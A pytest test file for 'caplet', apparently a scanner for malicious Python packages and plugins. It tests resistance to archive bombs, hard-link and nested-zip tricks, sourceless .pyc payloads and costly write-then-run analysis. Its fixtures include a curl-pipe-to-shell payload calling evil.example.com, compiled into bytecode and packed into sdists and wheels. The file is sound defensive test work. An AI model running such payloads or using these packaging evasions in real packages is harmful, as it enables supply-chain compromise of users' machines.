"""The scanner attacked for its cost and its packaging (scandos37).

Each fixed row's test failed on main at ``019b5d6a``; none asserts a time.
"""

from __future__ import annotations

import io
import py_compile
import sys
import tarfile
import zipfile
from pathlib import Path
from types import FrameType
from typing import TYPE_CHECKING

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source, scan_tree

if TYPE_CHECKING:
    from _typeshed import TraceFunction

_SETUP = b"from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
_PAYLOAD = b"import os\nos.system('curl -s https://evil.example.com/x | sh')\n"


def _sdist(path: Path, module: bytes, links: int, extra: bytes = b"") -> Path:
    """An sdist of ``setup.py``, ``pkg/big.py`` and ``links`` hard links to it."""
    with tarfile.open(path, "w:gz") as archive:
        for name, data in (("setup.py", _SETUP), ("pkg/big.py", module), ("pkg/x.py", extra)):
            info = tarfile.TarInfo(f"pkg-1.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for i in range(links):
            info = tarfile.TarInfo(f"pkg-1.0/pkg/l{i}.py")
            info.type = tarfile.LNKTYPE
            info.linkname = "pkg-1.0/pkg/big.py"
            archive.addfile(info)
    return path


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_links_to_one_member_are_read_within_what_the_archive_may_expand_to(
    tmp_path: Path, mode: ScanMode
) -> None:
    # 40 hard links (headers of no data) to one 200 kB module in an sdist of a few kB
    # were 40 files of 200 kB to scan: 35 s in plugin mode, hours at the member cap
    module = b"# padding\n" * 20_000
    path = _sdist(tmp_path / "pkg-1.0.tar.gz", module, 40)
    report = scan_tree(path, mode=mode)
    # the floor the ratio is not checked below (1 MiB) holds four links to it beside it
    assert report.bytes_scanned <= (1 << 20) + 2 * len(module)
    bombs = [f for f in report.findings if f.rule_id == "CPL-ARC-002"]
    assert [(f.file, f.severity) for f in bombs] == [("pkg/l4.py", Severity.DANGER)]
    assert "36 link(s) to members of the archive would be read past" in bombs[0].message
    assert "not read: ship each file itself, not links to one" in bombs[0].message


def test_near_miss_a_few_links_in_an_sdist_are_read_as_their_members(tmp_path: Path) -> None:
    # a module linked under another name, within the archive's caps, is still read
    path = _sdist(tmp_path / "pkg-1.0.tar.gz", _PAYLOAD + b"# padding\n" * 10_000, 3)
    report = scan_tree(path, mode=ScanMode.PACKAGE)
    danger = {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}
    assert danger == {("CPL-THR-015", f"pkg/{n}.py") for n in ("big", "l0", "l1", "l2")}


def _pyc(tmp_path: Path, source: bytes, mode: py_compile.PycInvalidationMode) -> bytes:
    """Real bytecode of ``source`` for the running interpreter, as py_compile writes it."""
    src = tmp_path / "compiled_from.py"
    src.write_bytes(source)
    out = tmp_path / "compiled.pyc"
    py_compile.compile(str(src), cfile=str(out), invalidation_mode=mode, doraise=True)
    return out.read_bytes()


def _wheel(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    return path


_TIMESTAMP = py_compile.PycInvalidationMode.TIMESTAMP
_UNCHECKED = py_compile.PycInvalidationMode.UNCHECKED_HASH
_CHECKED = py_compile.PycInvalidationMode.CHECKED_HASH
_CACHE = f"pkg/__pycache__/__init__.{sys.implementation.cache_tag}.pyc"


@pytest.mark.parametrize(
    ("name", "invalidation", "beside"),
    [
        ("pkg/evil.pyc", _TIMESTAMP, {}),  # sourceless: imported as pkg.evil
        ("pkg/evil.pyc", _CHECKED, {"pkg/other.py": b"X = 1\n"}),
        (_CACHE, _UNCHECKED, {}),  # used whatever pkg/__init__.py says
    ],
)
def test_bytecode_python_imports_in_place_of_any_source_is_danger_in_a_package(
    tmp_path: Path,
    name: str,
    invalidation: py_compile.PycInvalidationMode,
    beside: dict[str, bytes],
) -> None:
    # a wheel whose clean __init__.py imports a sourceless .pyc (or whose __pycache__
    # holds an unchecked-hash cache of a payload) was exit 0, one info finding
    files = {"pkg/__init__.py": b"from . import evil\n", **beside}
    files[name] = _pyc(tmp_path, _PAYLOAD, invalidation)
    report = scan_tree(_wheel(tmp_path / "pkg-1.0-py3-none-any.whl", files), mode=ScanMode.PACKAGE)
    danger = [f for f in report.findings if f.severity is Severity.DANGER]
    assert [(f.rule_id, f.file) for f in danger] == [("CPL-THR-030", name)]
    assert "ship the module's .py source and remove the .pyc" in danger[0].message


def test_a_sourceless_pyc_in_a_directory_tree_is_danger_too(tmp_path: Path) -> None:
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_bytes(b"from . import evil\n")
    (tmp_path / "pkg" / "evil.pyc").write_bytes(_pyc(tmp_path, _PAYLOAD, _TIMESTAMP))
    report = scan_tree(tmp_path / "pkg", mode=ScanMode.PACKAGE)
    danger = {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}
    assert danger == {("CPL-THR-030", "evil.pyc")}


@pytest.mark.parametrize(
    ("name", "invalidation"),
    [
        ("pkg/__init__.pyc", _TIMESTAMP),  # beside its source, which the import prefers
        (_CACHE, _TIMESTAMP),  # a cache recompiled when its source differs
        (_CACHE, _CHECKED),
    ],
)
def test_near_miss_bytecode_its_source_overrides_stays_an_observation(
    tmp_path: Path, name: str, invalidation: py_compile.PycInvalidationMode
) -> None:
    files = {"pkg/__init__.py": b"X = 1\n", name: _pyc(tmp_path, b"X = 1\n", invalidation)}
    report = scan_tree(_wheel(tmp_path / "pkg-1.0-py3-none-any.whl", files), mode=ScanMode.PACKAGE)
    assert {(f.rule_id, f.severity) for f in report.findings} == {("CPL-NAT-003", Severity.INFO)}
    # plugin mode refuses any bytecode, as before
    plugin = scan_tree(tmp_path / "pkg-1.0-py3-none-any.whl", mode=ScanMode.PLUGIN)
    assert ("CPL-NAT-003", Severity.DANGER) in {(f.rule_id, f.severity) for f in plugin.findings}
    assert not any(f.rule_id == "CPL-THR-030" for f in plugin.findings)


def _pairing_steps(source: str) -> tuple[int, set[str]]:
    """Lines run in the sinks' write-then-run pairing while ``source`` is scanned in
    plugin mode (a count of its steps, whatever the loop's shape), and the rules found."""
    steps = 0

    def local(frame: FrameType, event: str, arg: object) -> TraceFunction:
        nonlocal steps
        steps += event == "line"
        return local

    def tracer(frame: FrameType, event: str, arg: object) -> TraceFunction | None:
        return local if frame.f_code.co_name == "_write_then_run" else None

    before = sys.gettrace()
    sys.settrace(tracer)
    try:
        findings = scan_source(source, "plugin.py", mode=ScanMode.PLUGIN)
    finally:
        sys.settrace(before)
    return steps, {f.rule_id for f in findings}


def _downloads_and_runs(n: int) -> str:
    return "import subprocess\n" + "".join(
        f"subprocess.run(['curl', 'https://h{i}.example', '-o', '/tmp/x{i}'])\n"
        f"subprocess.run(['/tmp/x{i}'])\n"
        for i in range(n)
    )


def test_many_writes_and_runs_of_distinct_files_cost_their_sum_not_their_product() -> None:
    # every run was paired with every write: 4,000 downloads and runs of distinct paths
    # (400 kB) took 18 s of the scanner, 2 MiB minutes; 300 more of each cost 300 x 300
    # more steps on main, a few per run now
    one, _ = _pairing_steps(_downloads_and_runs(1))
    many, _ = _pairing_steps(_downloads_and_runs(301))
    assert many - one <= 300 * 2 * 12, (one, many)


def test_near_miss_the_download_run_among_many_writes_and_runs_is_still_found() -> None:
    shapes = _downloads_and_runs(60)
    _, found = _pairing_steps(shapes)
    assert "CPL-THR-002" in found  # each download started
    folder = (
        "import shutil, subprocess, urllib.request\n"
        + "".join(f"open('/tmp/w{i}.txt', 'w').write('x')\n" for i in range(40))
        + "urllib.request.urlretrieve('https://h.example/a.zip', '/tmp/a.zip')\n"
        "shutil.unpack_archive('/tmp/a.zip', '/tmp/d')\n"
        "subprocess.run(['/tmp/d/run.exe'])\n"
    )
    with_folder = {f.rule_id for f in scan_source(folder, "plugin.py", mode=ScanMode.PLUGIN)}
    alone = {f.rule_id for f in scan_source(folder.replace("/tmp/d/run", "/opt/run"), "plugin.py")}
    assert "CPL-THR-002" in with_folder - alone


@pytest.mark.parametrize(
    "stage",
    [
        "open(p, 'w').write('echo {i}')\n",  # one path written and run many times
        "shutil.unpack_archive('a.zip', '/tmp/d{i}')\n",  # many folders, many programs
    ],
)
def test_writes_and_runs_past_the_pair_budget_are_too_complex_to_check(stage: str) -> None:
    # each run still met every such write: 1,000 of each (57 kB) took 27 s, 2 MiB hours
    n = 320  # 102,400 pairs, past WRITE_RUN_PAIRS
    source = (
        "import shutil, subprocess\np = '/tmp/x'\n"
        + "".join(stage.format(i=i) for i in range(n))
        + "".join(f"subprocess.run(['sh', p, '/tmp/e{i}/x'])\n" for i in range(n))
    )
    findings = scan_source(source, "plugin.py", mode=ScanMode.PLUGIN)
    scan = [f for f in findings if f.rule_id == "CPL-SCAN-002"]
    assert [f.severity for f in scan] == [Severity.DANGER]
    assert "file writes and program runs make more than 100000 pairs" in scan[0].message
    assert "write and start fewer files" in scan[0].message


def test_near_miss_writes_and_runs_within_the_pair_budget_are_judged() -> None:
    # 200 writes of one path and 200 runs of it (40,000 pairs): judged, no CPL-SCAN-002
    source = (
        "import subprocess, urllib.request\np = '/tmp/x'\n"
        + "open(p, 'w').write('echo 1')\n" * 199
        + "urllib.request.urlretrieve('https://h.example/x', p)\n"
        + "subprocess.run(['sh', p])\n" * 200
    )
    rules = {f.rule_id for f in scan_source(source, "plugin.py", mode=ScanMode.PLUGIN)}
    assert "CPL-SCAN-002" not in rules
    assert "CPL-THR-002" in rules


def _nested_sdist(path: Path, copies: int, module: bytes) -> Path:
    """An sdist of ``copies`` zips (``depsN.zip``), each holding ``helper.py``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("helper.py", module)
    nested = buffer.getvalue()
    with tarfile.open(path, "w:gz") as archive:
        for name, data in [("setup.py", _SETUP)] + [
            (f"deps{i}.zip", nested) for i in range(copies)
        ]:
            info = tarfile.TarInfo(f"pkg-1.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


def test_zips_inside_an_archive_share_what_the_archive_may_expand_to(tmp_path: Path) -> None:
    # each zip had caps of its own: 100 copies of a 1.6 kB zip of a 1 MB module (under
    # the ratio's floor) in a 1.7 kB sdist were 100 MB of source to scan and to hold
    module = b"# padding\n" * 100_000
    path = _nested_sdist(tmp_path / "pkg-1.0.tar.gz", 100, module)
    report = scan_tree(path, mode=ScanMode.PACKAGE)
    assert report.bytes_scanned <= (1 << 20) + len(_SETUP)
    unopened = [f for f in report.findings if "the zips inside the archive expand" in f.message]
    assert len(unopened) == 99
    assert {(f.rule_id, f.severity) for f in unopened} == {("CPL-ARC-002", Severity.DANGER)}
    assert "deps99.zip" in {f.file for f in unopened}
    assert "ship its files unpacked" in unopened[0].message


def test_near_miss_a_few_zips_inside_an_sdist_are_opened_and_read(tmp_path: Path) -> None:
    path = _nested_sdist(tmp_path / "pkg-1.0.tar.gz", 3, _PAYLOAD)
    report = scan_tree(path, mode=ScanMode.PACKAGE)
    danger = {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}
    assert danger == {("CPL-THR-015", f"deps{i}.zip/helper.py") for i in range(3)}
    assert not any("the zips inside the archive expand" in f.message for f in report.findings)
